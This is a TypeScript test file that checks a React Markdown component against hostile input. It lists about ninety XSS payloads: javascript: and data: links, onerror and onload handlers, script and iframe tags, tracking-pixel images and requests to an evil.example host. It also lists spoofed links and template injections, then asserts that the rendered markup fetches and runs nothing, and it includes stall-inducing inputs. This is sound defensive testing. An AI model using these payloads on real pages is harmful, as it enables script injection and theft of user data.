import { i18n } from '@lingui/core'
import { I18nProvider } from '@lingui/react'
import { Parser } from 'htmlparser2'
import { renderToStaticMarkup } from 'react-dom/server'
import { beforeAll, describe, expect, it } from 'vitest'
import { Markdown } from './Markdown.tsx'

beforeAll(() => i18n.loadAndActivate({ locale: 'en', messages: {} }))

const render = (text: string) =>
  renderToStaticMarkup(
    <I18nProvider i18n={i18n}>
      <Markdown text={text} renderCitation={(number) => <button>{number}</button>} />
    </I18nProvider>,
  )

/** What a model, or a document that speaks through it, might write to run code, fetch an address or deceive. */
const payloads = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '<javascript:alert(1)>',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](blob:https://a.example/1)',
  '[x](file:///etc/passwd)',
  '[x](filesystem:https://a.example/x)',
  '[x](//evil.example/a)',
  '[x](\\\\evil.example\\a)',
  '[x](/api/session)',
  '[x](#onload)',
  '[x](https://user:secret@evil.example/)',
  '[x](ws://evil.example)',
  '[x](intent://evil#Intent;end)',
  '[x](https://evil.example/"onmouseover="alert(1))',
  "[x](https://evil.example/'onmouseover='alert(1))",
  '[x](https://evil.example "t\\" onclick=alert(1)")',
  '[x](<javascript:alert(1)>)',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '[1]\n\n[1]: https://evil.example/track',
  '![a](https://evil.example/pixel.png)',
  '![a](javascript:alert(1))',
  '![a](data:image/svg+xml,<svg onload=alert(1)>)',
  '![a][p]\n\n[p]: https://evil.example/pixel.png',
  '[![a](https://evil.example/p.png)](https://ok.example)',
  '![a](//evil.example/p.png "t")',
  '![a](/api/documents)',
  '![](https://evil.example/?q=secret)',
  '<img src=https://evil.example/p.png>',
  '<img src=x onerror=alert(1)>',
  '<img srcset="https://evil.example/p.png 1x">',
  '<picture><source srcset=https://evil.example/p.png></picture>',
  '<image href=https://evil.example/p.png>',
  '<svg onload=alert(1)>',
  '<svg><script href="https://evil.example/x.js"/></svg>',
  '<svg><use href="https://evil.example/x.svg#a"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<math><mi xlink:href="data:x">',
  '<script>alert(1)</script>',
  '<script src=https://evil.example/x.js></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<iframe src=https://evil.example></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data=https://evil.example></object>',
  '<embed src=https://evil.example>',
  '<video src=https://evil.example/v poster=https://evil.example/p>',
  '<audio src=https://evil.example/a>',
  '<track src=https://evil.example/t>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<link rel=preload as=image href=https://evil.example/p>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<div style="background:url(https://evil.example/p)">x</div>',
  '<body background=https://evil.example/p>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example/>',
  '<form action=https://evil.example><input type=image src=https://evil.example/p></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<a href=javascript:alert(1)>x</a>',
  '<a ping=https://evil.example href=https://ok.example>x</a>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><img src=x onerror=alert(1)></noscript>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="https://evil.example/x.css"?>',
  '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">',
  '<x style=behavior:url(https://evil.example)>',
  '```html\n<img src=https://evil.example/p>\n```',
  '`<img src=x onerror=alert(1)>`',
  '```" onmouseover="alert(1)\nx\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |',
  '- <svg onload=alert(1)>\n  - ![a](https://evil.example/p.png)',
  '> <iframe src=https://evil.example>',
  '# <img src=https://evil.example/p>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '[<img src=x onerror=alert(1)>](https://ok.example)',
  '<https://evil.example/\u202egnp.exe>',
  '[https://bank.example](https://evil.example)',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<svg/onload=alert(1)//',
]

/** Attributes by which a browser would fetch something or run something. */
const fetching = new Set([
  'src',
  'srcset',
  'srcdoc',
  'data',
  'poster',
  'background',
  'action',
  'formaction',
  'ping',
  'xlink:href',
  'style',
  'manifest',
  'cite',
  'longdesc',
  'usemap',
  'archive',
  'code',
  'codebase',
])
const elements = new Set([
  'div',
  'p',
  'span',
  'bdi',
  'strong',
  'em',
  'del',
  'code',
  'pre',
  'ul',
  'ol',
  'li',
  'blockquote',
  'br',
  'hr',
  'h3',
  'h4',
  'h5',
  'h6',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
  'button',
  'svg',
  'use',
])

function problemsOf(markup: string): string[] {
  const problems: string[] = []
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!elements.has(name)) problems.push(`element ${name}`)
      for (const [attribute, value] of Object.entries(attributes)) {
        if (fetching.has(attribute) || attribute.startsWith('on')) problems.push(`${name} ${attribute}=${value}`)
        // Shown, and opened from a dialog only: nothing that a browser would follow or prefetch by itself.
        if (attribute === 'data-address' && !/^(https?:\/\/[^@]*$|mailto:[^?]*$)/.test(value))
          problems.push(`${name} data-address=${value}`)
        if (attribute !== 'href') continue
        const isOwnIcon = name === 'use' && /^\/[\w./-]*icons\.svg(\?no-inline)?#[\w-]+$/.test(value)
        if (!isOwnIcon) problems.push(`${name} href=${value}`)
      }
    },
  })
  parser.end(markup)
  return problems
}

describe('hostile Markdown', () => {
  it('is tried in more than sixty ways', () => expect(new Set(payloads).size).toBeGreaterThan(60))

  it.each(payloads)('%j becomes nothing that fetches or runs', (payload) => {
    for (const text of [payload, `Text ${payload} more`, `**${payload}**`, `- a\n- ${payload}`, payload.slice(0, -1)])
      expect(problemsOf(render(text))).toEqual([])
  })

  it('is judged by a check that can fail', () => {
    expect(problemsOf('<a href="https://ok.example">')).toHaveLength(2)
    expect(problemsOf('<img src="https://evil.example">')).toHaveLength(2)
  })

  it('shows the address behind a promising link', () => {
    expect(render('[https://bank.example](https://evil.example)')).toContain('(<bdi>https://evil.example/</bdi>)')
  })

  it.each([
    ['nested quotes', '>'.repeat(20_000)],
    ['nested lists', '- '.repeat(20_000)],
    ['open brackets', '['.repeat(20_000)],
    ['open pictures', '!['.repeat(10_000)],
    ['stars', '*a '.repeat(10_000)],
    ['stars and lines', '*a _b '.repeat(6_000)],
    ['backticks', '`'.repeat(20_000)],
    ['alternating backticks', Array.from({ length: 300 }, (_, n) => '`'.repeat(n)).join(' ')],
    ['a wide table', `${'|a'.repeat(3_000)}|\n${'|-'.repeat(3_000)}|\n`],
    ['angle brackets', '<'.repeat(20_000)],
    ['comments', '<!--'.repeat(5_000)],
    ['entities', '&#x'.repeat(20_000)],
    ['deep indentation', Array.from({ length: 200 }, (_, n) => `${'  '.repeat(n)}- a`).join('\n')],
    ['citations', '[1]'.repeat(5_000)],
    ['white space', ' '.repeat(50_000) + 'a'],
    ['line ends', '\n'.repeat(50_000) + 'a'],
    ['addresses', 'www.'.repeat(10_000)],
    ['mail addresses', 'a@'.repeat(10_000)],
  ])('does not stall or break the page: %s', (_, text) => {
    // Processor time, not the clock: other tests run beside this one.
    const before = process.cpuUsage()
    expect(problemsOf(render(text))).toEqual([])
    expect(process.cpuUsage(before).user / 1_000).toBeLessThan(1_500)
  })
})
